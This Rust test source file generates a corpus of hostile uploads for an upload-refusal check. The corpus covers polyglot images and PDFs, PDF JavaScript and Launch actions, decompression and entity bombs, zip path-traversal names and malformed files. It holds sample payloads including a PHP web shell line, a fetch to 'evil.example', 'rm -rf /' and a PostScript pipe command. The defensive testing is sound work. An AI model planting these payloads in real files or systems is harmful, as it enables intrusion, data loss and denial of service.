//! Two hundred and more hostile files, each made when it is asked for: what uploads must refuse (SEC-13).

use sim::pdf_of;

use crate::forged::{Entry, PAGE, PAGES, deflate, good, jpeg, ofd, png, saying, stored, zip, zlib};

/// A hostile file: what it is called here, and how it is made.
pub type Hostile = (String, Box<dyn Fn() -> Vec<u8>>);

/// How a whole file is made.
type Make = fn() -> Vec<u8>;

/// All of them.
pub fn corpus() -> Vec<Hostile> {
    let mut all = Vec::new();
    polyglots(&mut all);
    running(&mut all);
    bursting(&mut all);
    nested(&mut all);
    tangled(&mut all);
    torn(&mut all);
    foreign(&mut all);
    all
}

fn add(all: &mut Vec<Hostile>, name: impl Into<String>, build: impl Fn() -> Vec<u8> + 'static) {
    all.push((name.into(), Box::new(build)));
}

/// The beginnings of files that must not hide in others.
fn payloads() -> Vec<(&'static str, Vec<u8>)> {
    let script: &[u8] = b"<html><script>fetch('//evil.example')</script></html>";
    vec![
        ("page", script.to_vec()),
        (
            "drawing",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x()\"/>".to_vec(),
        ),
        ("php", b"<?php system($_GET['c']); ?>".to_vec()),
        ("zip", zip(&[stored("run.exe", b"MZ")], 0)),
        (
            "jar",
            zip(
                &[
                    stored("META-INF/MANIFEST.MF", b"Main-Class: A"),
                    stored("A.class", b"\xca\xfe\xba\xbe"),
                ],
                0,
            ),
        ),
        ("rar", b"Rar!\x1a\x07\x01\x00payload".to_vec()),
        ("7z", b"7z\xbc\xaf\x27\x1c\x00\x04payload".to_vec()),
        ("cab", b"MSCF\0\0\0\0payload".to_vec()),
        (
            "program",
            b"MZ\x90\0...This program cannot be run in DOS mode.\r\r\n$".to_vec(),
        ),
        ("elf", b"\x7fELF\x02\x01\x01\0payload".to_vec()),
    ]
}

/// Files of two kinds at once, with the second behind, before or within the first.
fn polyglots(all: &mut Vec<Hostile>) {
    for (what, bytes) in payloads() {
        let hosts: [(&str, Make); 4] = [
            ("pdf", good),
            ("ofd", || ofd(&[])),
            ("png", || png(10, 10, b"")),
            ("jpeg", || jpeg(10, 10, b"")),
        ];
        for (host, make) in hosts {
            let (behind, before) = (bytes.clone(), bytes.clone());
            add(all, format!("{host} with {what} behind"), move || {
                [make(), behind.clone()].concat()
            });
            add(all, format!("{host} with {what} before"), move || {
                [before.clone(), make()].concat()
            });
        }
        let within = bytes.clone();
        add(all, format!("jpeg with {what} in its comment"), move || {
            jpeg(10, 10, &within)
        });
        let closed = bytes;
        add(
            all,
            format!("pdf with {what} and a second end"),
            move || [good(), closed.clone(), b"\n%%EOF\n".to_vec()].concat(),
        );
    }
}

/// What a PDF may carry that runs, sends or opens something.
const RUNNING: [(&str, &str); 20] = [
    ("script", "<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    ("script as a stream", "<</S/JavaScript/JS 9 0 R>>"),
    ("script of a rendition", "<</S/Rendition/JS(x)>>"),
    ("program", "<</S/Launch/F(cmd.exe)>>"),
    (
        "program for Windows",
        "<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    ),
    (
        "form that sends",
        "<</S/SubmitForm/F(https://evil.example)>>",
    ),
    ("form that reads", "<</S/ImportData/F(secret.fdf)>>"),
    ("embedded document", "<</S/GoToE/T<</R/C/N(a.pdf)>>>>"),
    ("forms of XFA", "<</XFA[(template) 9 0 R]>>"),
    ("attachment", "<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>"),
    (
        "attachment of a page",
        "<</Subtype/FileAttachment/FS 9 0 R>>",
    ),
    ("embedded file", "<</Type/EmbeddedFile>>"),
    (
        "names of attachments",
        "<</EmbeddedFiles<</Names[(a) 9 0 R]>>>>",
    ),
    ("names of scripts", "<</JavaScript<</Names[(a) 9 0 R]>>>>"),
    ("flash", "<</Subtype/RichMedia>>"),
    ("film", "<</Subtype/Movie/Movie<</F(a.avi)>>>>"),
    ("sound", "<</Subtype/Sound>>"),
    ("screen", "<</Subtype/Screen/A<</S/Rendition>>>>"),
    ("model", "<</Subtype/3D>>"),
    (
        "script behind a script",
        "<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(x)>>>>",
    ),
];

/// Each of them in five places.
fn running(all: &mut Vec<Hostile>) {
    for (what, object) in RUNNING {
        for key in ["OpenAction", "AA", "PieceInfo"] {
            add(all, format!("{what} in /{key}"), move || {
                saying(&format!("/{key} {object}"))
            });
        }
        add(all, format!("{what} on a page"), move || {
            let page = format!("<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[{object}]>>");
            pdf_of(&["<</Type/Catalog/Pages 2 0 R>>", PAGES, &page])
        });
        add(all, format!("{what} as an object of its own"), move || {
            pdf_of(&["<</Type/Catalog/Pages 2 0 R/X 4 0 R>>", PAGES, PAGE, object])
        });
    }
    for hidden in [
        "/S/J#61vaScript/JS(x)",
        "/S/#4aavaScript",
        "/S/L#61unch",
        "/#58FA[]",
    ] {
        add(all, format!("hidden name {hidden}"), move || {
            saying(&format!("/OpenAction<<{hidden}>>"))
        });
    }
}

/// What is small and becomes large.
fn bursting(all: &mut Vec<Hostile>) {
    for pages in [501, 5_000, 50_000] {
        add(all, format!("{pages} pages"), move || {
            let kids: String = (0..pages).map(|at| format!("{} 0 R ", at + 3)).collect();
            let tree = format!("<</Type/Pages/Kids[{kids}]/Count {pages}>>");
            let mut objects = vec!["<</Type/Catalog/Pages 2 0 R>>", tree.as_str()];
            objects.extend(std::iter::repeat_n("<</Type/Page/Parent 2 0 R>>", pages));
            pdf_of(&objects)
        });
    }
    add(all, "one page 600 times", || {
        let tree = format!("<</Type/Pages/Kids[{}]/Count 1>>", "3 0 R ".repeat(600));
        pdf_of(&["<</Type/Catalog/Pages 2 0 R>>", &tree, PAGE])
    });
    add(all, "70,000 objects", || {
        let mut objects = vec!["<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE];
        objects.extend(std::iter::repeat_n("null", 70_000));
        pdf_of(&objects)
    });
    for kind in ["ObjStm", "XRef"] {
        for megabytes in [17, 64, 200] {
            add(all, format!("/{kind} of {megabytes} MB"), move || {
                bomb(kind, "/FlateDecode", zlib(&vec![b' '; megabytes << 20]))
            });
        }
        for filters in [
            "[/FlateDecode/FlateDecode]",
            "/LZWDecode",
            "[/ASCII85Decode/FlateDecode]",
        ] {
            add(all, format!("/{kind} through {filters}"), move || {
                bomb(kind, filters, zlib(&zlib(&vec![b' '; 1 << 20])))
            });
        }
    }
    for (name, wide, high) in [
        ("60,000 square", 60_000, 60_000),
        ("one line", u32::MAX, 1),
        ("all", u32::MAX, u32::MAX),
    ] {
        add(all, format!("png of {name}"), move || png(wide, high, b""));
    }
    for (wide, high) in [(65_535, 65_535), (20_000, 20_000), (65_535, 2_000)] {
        add(all, format!("jpeg of {wide}×{high}"), move || {
            jpeg(wide, high, b"")
        });
    }
    for claimed in [201 << 20, 1 << 30, u32::MAX] {
        add(all, format!("ofd that claims {claimed}"), move || {
            ofd(&[("Doc_0/a.xml", deflate(&vec![0; 1 << 20]), 8, claimed)])
        });
    }
    add(all, "ofd of a hundred times 50 MB", || {
        let quarter = deflate(&[0; 1 << 16]);
        let many: Vec<Entry<'_>> = (0..100)
            .map(|_| ("a.xml", quarter.clone(), 8, 50_000_000))
            .collect();
        ofd(&many)
    });
    add(all, "ofd of 2,500 entries", || {
        let many: Vec<Entry<'_>> = (0..2_500).map(|_| stored("a.xml", b"")).collect();
        ofd(&many)
    });
}

fn bomb(kind: &str, filter: &str, data: Vec<u8>) -> Vec<u8> {
    let mut bytes = good();
    let length = data.len();
    let head =
        format!("9 0 obj\n<</Type/{kind}/N 1/First 4/Filter{filter}/Length {length}>>\nstream\n");
    bytes.extend(head.bytes());
    bytes.extend(data);
    bytes.extend(b"\nendstream\nendobj\n%%EOF");
    bytes
}

/// Archives within archives, programs within documents, ways out of the folder.
fn nested(all: &mut Vec<Hostile>) {
    for ending in [
        "zip", "rar", "7z", "gz", "bz2", "xz", "tar", "jar", "cab", "iso", "ofd", "docx",
    ] {
        add(all, format!("ofd with .{ending}"), move || {
            ofd(&[stored(&format!("Doc_0/a.{ending}"), b"x")])
        });
    }
    for ending in [
        "exe", "DLL", "scr", "msi", "bat", "ps1", "sh", "js", "vbs", "hta", "lnk", "html", "svg",
    ] {
        add(all, format!("ofd with .{ending}"), move || {
            ofd(&[stored(&format!("Doc_0/a.{ending}"), b"x")])
        });
    }
    let archives: [(&str, Vec<u8>); 4] = [
        ("zip", zip(&[stored("b", b"x")], 0)),
        ("rar", b"Rar!\x1a\x07\x01\x00xxxxxxxx".to_vec()),
        ("7z", b"7z\xbc\xaf\x27\x1c\x00\x04xxxxxx".to_vec()),
        ("gz", b"\x1f\x8b\x08\0\0\0\0\0\0\x03xxxx".to_vec()),
    ];
    for (what, bytes) in archives {
        let (plain, packed) = (bytes.clone(), bytes);
        add(
            all,
            format!("ofd with {what} called a picture"),
            move || ofd(&[stored("Doc_0/a.png", &plain)]),
        );
        add(
            all,
            format!("ofd with {what} packed and called a picture"),
            move || ofd(&[("Doc_0/a.png", deflate(&packed), 8, packed.len() as u32)]),
        );
    }
    for name in [
        "../../etc/cron.d/x",
        "/etc/passwd",
        "C:\\x",
        "Doc_0\\..\\x",
        "Doc_0/\0.xml",
    ] {
        add(all, format!("ofd with an entry {name:?}"), move || {
            ofd(&[stored(name, b"x")])
        });
    }
    add(all, "a deep nest of archives", || {
        let inner = (0..20).fold(b"x".to_vec(), |inner, _| zip(&[stored("a.zip", &inner)], 0));
        ofd(&[stored("Doc_0/a.dat", &inner)])
    });
    add(all, "entries that overlap", || overlapping(100));
    add(all, "locked ofd", || zip(&[stored("OFD.xml", b"<x/>")], 1));
}

/// A zip whose directory lists one entry again and again under the same bytes.
fn overlapping(times: usize) -> Vec<u8> {
    let one = ofd(&[]);
    let end = one.len() - 22;
    let start = one
        .windows(4)
        .position(|four| four == b"PK\x01\x02")
        .unwrap_or(0);
    let entry = one[start..end].repeat(times);
    let mut bytes = [&one[..start], &entry[..]].concat();
    let mut tail = one[end..].to_vec();
    tail[8..10].copy_from_slice(&(times as u16).to_le_bytes());
    tail[10..12].copy_from_slice(&(times as u16).to_le_bytes());
    tail[12..16].copy_from_slice(&(entry.len() as u32).to_le_bytes());
    bytes.extend(tail);
    bytes
}

/// Structures that lead a reader round in circles or down without end.
fn tangled(all: &mut Vec<Hostile>) {
    for deep in [1_000, 100_000, 1_000_000] {
        add(all, format!("{deep} lists within each other"), move || {
            saying(&format!("/X {}{}", "[".repeat(deep), "]".repeat(deep)))
        });
        add(
            all,
            format!("{deep} dictionaries within each other"),
            move || {
                saying(&format!(
                    "/X {}0{}",
                    "<</A ".repeat(deep),
                    ">>".repeat(deep)
                ))
            },
        );
        add(all, format!("{deep} brackets in a string"), move || {
            saying(&format!("/X {}{}", "(".repeat(deep), ")".repeat(deep)))
        });
    }
    add(all, "a tree of pages that is its own branch", || {
        pdf_of(&[
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[2 0 R]/Count 1>>",
        ])
    });
    add(all, "a tree of pages without end", || {
        let branch = |next: usize| {
            format!(
                "<</Type/Pages/Kids[{}]>>",
                format!("{next} 0 R ").repeat(50)
            )
        };
        let mut objects = vec!["<</Type/Catalog/Pages 2 0 R>>".to_owned()];
        objects.extend((3..12).map(branch));
        objects.push("<</Type/Pages/Kids[2 0 R]>>".into());
        pdf_of(&objects.iter().map(String::as_str).collect::<Vec<_>>())
    });
    add(all, "a catalog that refers to itself", || {
        pdf_of(&["1 0 R", PAGES, PAGE])
    });
    add(all, "no pages", || pdf_of(&["<</Type/Catalog>>"]));
}

/// What is locked, cut off or empty.
fn torn(all: &mut Vec<Hostile>) {
    let wholes: [(&str, Make); 4] = [
        ("pdf", good),
        ("ofd", || ofd(&[stored("Doc_0/a.xml", &[b'x'; 500])])),
        ("png", || png(100, 100, b"")),
        ("jpeg", || jpeg(100, 100, b"photo")),
    ];
    for (what, make) in wholes {
        for eighth in 1..8 {
            add(all, format!("{eighth}/8 of a {what}"), move || {
                let whole = make();
                whole[..whole.len() * eighth / 8].to_vec()
            });
        }
    }
    for lock in [
        "Standard/V 1/R 2/P -4",
        "Standard/V 5/R 6/Length 256",
        "Adobe.PubSec/V 4",
    ] {
        add(all, format!("locked with {lock}"), move || {
            let text = String::from_utf8_lossy(&good()).into_owned();
            text.replace(
                "/Root 1 0 R",
                &format!("/Root 1 0 R/Encrypt<</Filter/{lock}>>"),
            )
            .into_bytes()
        });
    }
    add(all, "nothing", Vec::new);
    add(all, "png without pixels", || png(0, 0, b""));
    add(all, "jpeg without pixels", || jpeg(0, 10, b""));
    add(all, "more than the limit", || {
        let mut bytes = good();
        bytes.resize(office::attachments::LARGEST + 1, b' ');
        bytes
    });
}

/// Kinds that are not taken under any name.
fn foreign(all: &mut Vec<Hostile>) {
    let ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
    let office = |part: &'static str| {
        zip(
            &[
                stored("[Content_Types].xml", b"<Types/>"),
                stored(part, b"Attribute VB_Name"),
            ],
            0,
        )
    };
    let kinds: Vec<(&str, Vec<u8>)> = vec![
        ("Word with macros", office("word/vbaProject.bin")),
        ("Excel with macros", office("xl/vbaProject.bin")),
        ("slides with macros", office("ppt/vbaProject.bin")),
        ("Word", office("word/document.xml")),
        ("old Office", [&ole[..], &[0; 600]].concat()),
        ("RTF", b"{\\rtf1{\\object\\objupdate}}".to_vec()),
        (
            "SVG with script",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>x()</script></svg>".to_vec(),
        ),
        (
            "SVG that loads",
            b"<?xml version=\"1.0\"?><svg onload=\"x()\"/>".to_vec(),
        ),
        (
            "SVG with an entity bomb",
            b"<!DOCTYPE s [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;\">]><svg>&b;</svg>".to_vec(),
        ),
        ("page", b"<!doctype html><script>x()</script>".to_vec()),
        ("script", b"#!/bin/sh\nrm -rf /\n".to_vec()),
        ("program", b"MZ\x90\0\x03\0\0\0".to_vec()),
        ("gif", b"GIF89a\x01\0\x01\0\0\0\0;".to_vec()),
        ("tiff", b"II*\0\x08\0\0\0".to_vec()),
        ("bmp", b"BM\x3a\0\0\0\0\0\0\0".to_vec()),
        (
            "postscript",
            b"%!PS-Adobe-3.0\n(%pipe%id) (r) file".to_vec(),
        ),
        ("text", b"plain words".to_vec()),
        ("zeros", vec![0; 4096]),
        ("gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\x03xxxx".to_vec()),
        ("shortcut", b"L\0\0\0\x01\x14\x02\0".to_vec()),
    ];
    for (what, bytes) in kinds {
        add(all, what, move || bytes.clone());
    }
}
